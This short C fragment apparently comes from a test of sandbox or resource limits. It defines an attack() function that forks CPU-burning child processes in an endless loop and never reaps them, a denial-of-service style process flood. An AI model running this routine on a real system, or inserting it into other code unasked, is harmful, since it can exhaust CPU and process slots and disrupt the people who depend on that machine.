// Does its work in many children that it never waits for.
void attack() {
  signal(SIGCHLD, SIG_IGN);
  for (;;) {
    if (fork() != 0) {
      usleep(2000);
      continue;
    }
    const clock_t begin = clock();
    while (clock() - begin < 20000) {
    }
    _exit(0);
  }
}
